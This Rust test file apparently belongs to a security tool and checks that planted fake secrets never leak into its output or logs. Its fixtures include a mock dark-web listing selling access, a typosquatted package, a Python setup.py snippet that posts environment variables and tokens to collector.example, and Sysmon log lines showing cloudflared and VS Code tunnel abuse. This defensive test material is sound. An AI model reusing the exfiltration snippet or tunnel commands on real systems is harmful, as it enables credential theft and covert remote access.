//! Secrets planted into everything that verbs about the own estate read: a listing, a lockfile, source, a log, the settings of
//! a tenant. None of them may be printed, logged, or kept.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

/// What was planted, all invented. Each stands in clear in at least one input.
const PLANTED: &[&str] = &[
    "Planted-Pw-4711",
    "planted.taro@mail.example",
    "planted_seller_9",
    "ghp_plantedPLANTED0123456789abcdefABCD",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwbGFudGVkIn0.cGxhbnRlZHNpZ25hdHVyZQ",
    "AKIAPLANTEDPLANT4711",
    "plantedhunter2",
    "Planted~Client~Secret~4711abcdefgh",
];

const LISTING: &str = "出品者からの投稿\n\n風守ペイの管理画面 VPNアクセス権 ドメイン管理者 40万円 連絡 Telegram @planted_seller_9 パスワード: Planted-Pw-4711\n\n風守ペイの顧客データ 12万件 5万円で販売 見本 planted.taro@mail.example:Planted-Pw-4711 token ghp_plantedPLANTED0123456789abcdefABCD\n";

const REQUIREMENTS: &str = "--index-url https://ci:plantedhunter2@pypi.kazemori.example/simple\ndeepseeek==0.0.8\nx @ https://bot:plantedhunter2@files.kazemori.example/x-1.0.tar.gz\n";

const RECORD: &str = r#"{"schema_version":"1.7.0","id":"MAL-2099-9001","modified":"2025-02-01T00:00:00Z","published":"2025-02-01T00:00:00Z","summary":"Malicious code in deepseeek","details":"It posts to https://u:plantedhunter2@collector.example/ with ghp_plantedPLANTED0123456789abcdefABCD and password: Planted-Pw-4711.","affected":[{"package":{"ecosystem":"PyPI","name":"deepseeek"},"versions":["0.0.8"]}],"credits":[{"name":"lab","type":"FINDER"}]}"#;

const SOURCE: &str = "import os, base64, urllib.request\nKEY = 'AKIAPLANTEDPLANT4711'\nTOKEN = 'ghp_plantedPLANTED0123456789abcdefABCD'\nbody = repr(dict(os.environ)) + KEY + TOKEN\nurllib.request.urlopen('https://u:plantedhunter2@collector.example/?k=AKIAPLANTEDPLANT4711', data=body.encode())\n";

fn log() -> String {
    let lines = [
        r"C:\\tools\\cloudflared.exe tunnel run --token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwbGFudGVkIn0.cGxhbnRlZHNpZ25hdHVyZQ",
        r"C:\\x\\code.exe tunnel --accept-server-license-terms --name planted --password Planted-Pw-4711",
        r"curl.exe -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwbGFudGVkIn0.cGxhbnRlZHNpZ25hdHVyZQ' https://kazemori.example/",
        r"C:\\x\\code.exe tunnel --name y --env GITHUB=ghp_plantedPLANTED0123456789abcdefABCD",
    ];
    let event = |line: &str| {
        let image = if line.contains("cloudflared") {
            r"C:\\tools\\cloudflared.exe"
        } else {
            r"C:\\x\\code.exe"
        };
        format!(
            r#"{{"Channel":"Microsoft-Windows-Sysmon/Operational","Provider_Name":"Microsoft-Windows-Sysmon","EventID":1,"Computer":"WS-1.kazemori.example","UtcTime":"2024-12-16 02:12:00.000","Image":"{image}","CommandLine":"{line}"}}"#
        ) + "\n"
    };
    lines.iter().map(|line| event(line)).collect()
}

fn samples() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../samples/estate")
}

/// The export of the invented tenant with secrets among its values, in names that are shown.
fn settings() -> String {
    let path = samples().join("posture/ProviderSettingsExport.json");
    let text = fs::read_to_string(path).expect("part of the project");
    let planted = "010 client_secret=Planted~Client~Secret~4711abcdefgh password=Planted-Pw-4711 Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwbGFudGVkIn0.cGxhbnRlZHNpZ25hdHVyZQ";
    let names = text.matches("\"DisplayName\": \"").count();
    assert!(names > 2, "the sample has names to plant into");
    text.replace("\"DisplayName\": \"", &format!("\"DisplayName\": \"{planted} "))
}

fn workspace() -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| {
        let path = folder.path().join(name);
        fs::create_dir_all(path.parent().expect("has one")).expect("made");
        fs::write(path, text).expect("written");
    };
    fs::copy(samples().join("noroshi.toml"), folder.path().join("noroshi.toml")).expect("copied");
    write("in/letter.txt", LISTING);
    let offer = LISTING.lines().nth(2).unwrap_or_default();
    write(
        "in/offers.csv",
        &format!("text,seller,contact\n\"{offer}\",planted_seller_9,@planted_seller_9\n"),
    );
    write(
        "in/posts.json",
        &serde_json::json!([{ "text": offer, "seller": "planted_seller_9" }]).to_string(),
    );
    write("in/requirements.txt", REQUIREMENTS);
    write("in/records.jsonl", RECORD);
    write("in/source/setup.py", SOURCE);
    write("in/log.jsonl", &log());
    write("in/settings.json", &settings());
    folder
}

const RUNS: &[&[&str]] = &[
    &["watch", "listings", "--keep", "in/letter.txt", "in/offers.csv", "in/posts.json"],
    &["watch", "names", "in/letter.txt", "in/offers.csv", "in/posts.json"],
    &["watch", "alerts"],
    &["packages", "import", "in/records.jsonl"],
    &["packages", "check", "in/requirements.txt"],
    &["packages", "list", "in/requirements.txt"],
    &["packages", "scan", "in/source"],
    &["hunt", "in/log.jsonl"],
    &["posture", "run", "--keep", "in/settings.json"],
    &["concern"],
];

/// What is found of the planted in bytes that a person or another program gets to see.
fn in_clear(bytes: &[u8]) -> Vec<&'static str> {
    let holds = |secret: &&str| bytes.windows(secret.len()).any(|part| part == secret.as_bytes());
    PLANTED.iter().copied().filter(holds).collect()
}

#[test]
fn the_inputs_hold_every_secret() {
    let folder = workspace();
    let inputs = walk(&folder.path().join("in"));
    let all: Vec<u8> = inputs.iter().flat_map(|path| fs::read(path).expect("readable")).collect();
    for secret in PLANTED {
        assert!(all.windows(secret.len()).any(|part| part == secret.as_bytes()), "{secret}");
    }
}

#[test]
fn no_planted_secret_is_printed_logged_or_kept() {
    let folder = workspace();
    let mut leaks = Vec::new();
    for args in RUNS {
        for format in ["text", "json"] {
            let mut command = Command::new(env!("CARGO_BIN_EXE_noroshi"));
            command.current_dir(folder.path()).args(*args).args(["--format", format, "-v"]);
            command.env_clear().env("LC_ALL", "C.UTF-8").stdin(Stdio::null());
            let ran = command.output().expect("starts");
            let told = String::from_utf8_lossy(&ran.stderr).into_owned();
            assert!(matches!(ran.status.code(), Some(0 | 10)), "{args:?}: {told}");
            for (what, bytes) in [("output", &ran.stdout), ("log", &ran.stderr)] {
                let shown = in_clear(bytes).into_iter();
                leaks.extend(shown.map(|secret| format!("{args:?} {format} {what}: {secret}")));
            }
        }
    }
    for path in
        walk(folder.path()).iter().filter(|path| !path.starts_with(folder.path().join("in")))
    {
        let bytes = fs::read(path).expect("readable");
        leaks.extend(
            in_clear(&bytes).into_iter().map(|secret| format!("{}: {secret}", path.display())),
        );
    }
    assert!(leaks.is_empty(), "{leaks:#?}");
}

fn walk(folder: &Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).expect("there") {
        let path = entry.expect("readable").path();
        if path.is_dir() {
            found.extend(walk(&path));
        } else {
            found.push(path);
        }
    }
    found
}
